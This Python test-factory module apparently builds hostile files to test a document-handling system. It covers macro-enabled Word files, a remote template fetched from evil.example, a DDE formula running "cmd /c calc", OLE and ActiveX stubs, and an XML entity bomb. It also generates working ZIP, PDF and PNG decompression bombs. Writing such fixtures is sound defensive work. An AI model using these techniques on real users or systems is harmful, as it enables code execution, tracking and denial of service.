"""Real files as an attacker, a careless program or bad luck makes them."""

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image

from tests.factories import files

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
}
WORDS = files.word_paragraph("縁側の広報")


def relationship(number: int, kind: str, target: str, *, outside: bool = False) -> str:
    """One line of a list of relationships; ``kind`` is its last word, or its whole type."""
    whole = kind if "/" in kind else f"{OFFICE}/{kind}"
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rId{number}" Type="{whole}" Target="{target}"{mode}/>'


def relationships(*lines: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{RELATIONSHIPS}">{"".join(lines)}</Relationships>'


def word(body: str, *lines: str, parts: dict[str, bytes | str] | None = None) -> bytes:
    """A .docx with relationships and parts of its own."""
    namespaces = f'{files.NAMESPACE} xmlns:r="{OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office"'
    document = f'<?xml version="1.0"?><w:document {namespaces}><w:body>{WORDS}{body}</w:body></w:document>'
    return files.word(
        "", **{"word/document.xml": document, "word/_rels/document.xml.rels": relationships(*lines)} | (parts or {})
    )


def with_macro() -> bytes:
    """A .docm with a program inside."""
    types = files.CONTENT_TYPES.replace(TYPES["docx"], TYPES["docm"])
    line = relationship(9, f"{MICROSOFT}/vbaProject", "vbaProject.bin")
    return word("", line, parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen", "[Content_Types].xml": types})


def with_template_from_elsewhere() -> bytes:
    """Word fetches it on opening, and runs its macros (CVE-2017-0199 and its many heirs)."""
    settings = f'<w:settings {files.NAMESPACE} xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    line = relationship(1, "attachedTemplate", "https://evil.example/t.dotm", outside=True)
    return word(
        "",
        relationship(1, "settings", "settings.xml"),
        parts={"word/settings.xml": settings, "word/_rels/settings.xml.rels": relationships(line)},
    )


def with_embedded_program() -> bytes:
    body = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId5"/></w:object></w:r></w:p>'
    line = relationship(5, "oleObject", "embeddings/oleObject1.bin")
    return word(body, line, parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 calc.exe"})


def with_active_x() -> bytes:
    body = '<w:p><w:r><w:object><w:control r:id="rId5" w:name="x"/></w:object></w:r></w:p>'
    parts: dict[str, bytes | str] = {
        "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 Shell.Explorer",
        "word/activeX/_rels/activeX1.xml.rels": relationships(
            relationship(1, f"{MICROSOFT}/activeXControlBinary", "activeX1.bin")
        ),
    }
    return word(body, relationship(5, "control", "activeX/activeX1.xml"), parts=parts)


def with_remote_picture() -> bytes:
    drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    body = f'<w:p><w:r><w:drawing><a:blip {drawing} r:link="rId5"/></w:drawing></w:r></w:p>'
    return word(body, relationship(5, "image", "https://evil.example/seen.png", outside=True))


def with_imported_page() -> bytes:
    line = relationship(5, "aFChunk", "chunk.html")
    return word('<w:altChunk r:id="rId5"/>', line, parts={"word/chunk.html": "<script>alert(1)</script>"})


def field(*pieces: str, shown: str = "見えている文字") -> str:
    """A field of Word whose instruction is cut into pieces, as programs (and people who hide something) do."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"<w:p>{begin}{runs}{separate}<w:r><w:t>{shown}</w:t></w:r>{end}</w:p>"


def nested_field(inside: str, *pieces: str) -> str:
    """A field whose instruction another field writes."""
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    inner = f"{begin}<w:r><w:instrText>{inside}</w:instrText></w:r>{end}"
    return f"<w:p>{begin}{inner}{runs}{separate}<w:r><w:t>見えている文字</w:t></w:r>{end}</w:p>"


def with_entities() -> bytes:
    """A thousand million letters out of ten lines of XML."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{lines}]><w:document {files.NAMESPACE}>&l9;</w:document>'
    )
    return files.word("", **{"word/document.xml": bomb})


def changed(content: bytes, part: str, old: str, new: str, **more: bytes | str) -> bytes:
    """The same office file with one part changed, and parts added."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    text = parts[part].decode() if isinstance(parts[part], bytes) else str(parts[part])
    assert old in text, text
    parts[part] = text.replace(old, new, 1)
    return files.zipped(parts | {name.replace("__", "/"): value for name, value in more.items()})


def spreadsheet_leading_out() -> bytes:
    """A workbook that asks a program on opening (DDE) and looks into another file."""
    rows: list[list[object]] = [["合計", "=SUM(1,2)"], ["外", "=1+1"], ["命令", "=2+2"]]
    workbook = files.spreadsheet({"表": rows})
    workbook = changed(workbook, "xl/worksheets/sheet1.xml", "<f>1+1</f><v></v>", "<f>[1]Sheet1!A1</f><v>42</v>")
    workbook = changed(workbook, "xl/worksheets/sheet1.xml", "<f>2+2</f><v></v>", "<f>cmd|'/c calc'!A1</f><v>7</v>")
    lines = relationship(99, "externalLink", "externalLinks/externalLink1.xml")
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = (
        f'<externalLink xmlns="{main}" xmlns:r="{OFFICE}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    workbook = changed(
        workbook, "xl/_rels/workbook.xml.rels", "</Relationships>", f"{lines}</Relationships>",
        **{"xl/externalLinks/externalLink1.xml": link},
    )  # fmt: skip
    references = f'<externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rId99"/></externalReferences>'
    return changed(workbook, "xl/workbook.xml", "</sheets>", f"</sheets>{references}")


def gigabyte_in_a_megabyte() -> bytes:
    """A .docx of one megabyte whose only part unpacks to one gigabyte, with a table of contents that says less."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b" " * (1024 * 1024)
    body = b"".join(packed.compress(piece) for _ in range(1024)) + packed.flush()
    content = files.word(WORDS, word__bomb=b"placeholder!")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entry = archive.getinfo("word/bomb")
        at = entry.header_offset
        size = 30 + len(entry.filename) + entry.compress_size
    header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(body), 12, len(entry.filename), 0)
    swapped = content[:at] + header + entry.filename.encode() + body + content[at + size :]
    directory = swapped.rfind(b"PK\x01\x02")
    swapped = swapped[: directory + 20] + struct.pack("<LL", len(body), 12) + swapped[directory + 28 :]
    end = swapped.rfind(b"PK\x05\x06")
    return swapped[: end + 16] + struct.pack("<L", swapped.find(b"PK\x01\x02", at + len(body))) + swapped[end + 20 :]


def flat_pdf(stream: bytes = b"", **document: Any) -> bytes:
    """A PDF of one page with a stream as it is and entries of its own."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(595, 842))
        if stream:
            page.Contents = pikepdf.Stream(pdf, stream)
        for name, value in document.items():
            pdf.Root[f"/{name}"] = value
        buffer = io.BytesIO()
        pdf.save(buffer)
        return buffer.getvalue()


def pdf_of_pages(pages: int) -> bytes:
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page()
        buffer = io.BytesIO()
        pdf.save(buffer)
        return buffer.getvalue()


def pdf_without_pages() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.save(buffer)
    return buffer.getvalue()


def pdf_bomb() -> bytes:
    """Six hundred bytes: an object that unfolds to ten million numbers, more than a gigabyte in any reader."""
    once = zlib.compressobj(9)
    packed = once.compress(b"5 0     [") + b"".join(once.compress(b"0 " * 2**19) for _ in range(20))
    packed = zlib.compress(packed + once.compress(b"]") + once.flush(), 9)
    filters = b"/Type/ObjStm/N 1/First 8/Filter[/FlateDecode/FlateDecode]"
    body, entries = b"%PDF-1.7\n", b"\0\0\0\0\0\xff"
    for number, text in (
        (1, b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"),
        (4, b"<<%s/Length %d>>stream\n%s\nendstream" % (filters, len(packed), packed)),
    ):
        entries += b"\1" + struct.pack(">L", len(body)) + b"\0"
        body += b"%d 0 obj%s endobj\n" % (number, text)
    start = len(body)
    entries += b"\2" + struct.pack(">L", 4) + b"\0\1" + struct.pack(">L", start) + b"\0"
    list_of_objects = b"/Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d" % len(entries)
    body += b"6 0 obj<<%s>>stream\n%s\nendstream endobj\n" % (list_of_objects, entries)
    return body + b"startxref\n%d\n%%%%EOF" % start


def picture(kind: str, *, size: tuple[int, int] = (40, 30), place: bool = True) -> bytes:
    """A photograph with the place where it was taken."""
    image = Image.new("RGB", size, "teal")
    image.putpixel((3, 3), (255, 0, 0))
    exif = Image.Exif()
    if place:
        exif[0x0112] = 6  # turned
        exif[0x010F] = "Kamera"
        exif[0x013B] = "Hanako"
        exif.get_ifd(0x8825)[2] = (36.0, 15.0, 7.0)
        exif.get_ifd(0x8769)[0x9003] = "2026:11:01 10:00:00"
    buffer = io.BytesIO()
    image.save(buffer, kind, exif=exif if place else b"", **({"lossless": True} if kind == "WEBP" else {}))
    return buffer.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """Few bytes, and more points than any sheet of paper has."""
    packed = zlib.compressobj(9)
    row = b"\0" * (1 + width // 8)
    body = b"".join(packed.compress(row) for _ in range(height)) + packed.flush()
    pieces = [(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", body), (b"IEND", b"")]
    chunks = (
        struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data)) for kind, data in pieces
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def pdf_action(kind: str, script: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), JS=script)


def pdf_without_copying() -> bytes:
    """It opens for everybody and forbids to take its words out."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.pdf("<p>広報</p>"))) as pdf:
        forbidding = pikepdf.Permissions(extract=False, accessibility=False)
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user="", allow=forbidding))
    return buffer.getvalue()


def locked_office() -> bytes:
    """A .docx with a password is an old container with an encrypted package in it."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600


def hollow_old_word() -> bytes:
    """What says that it is a .doc, and is none."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "\0WordDocument\0".encode("utf-16-le") + b"\0" * 600
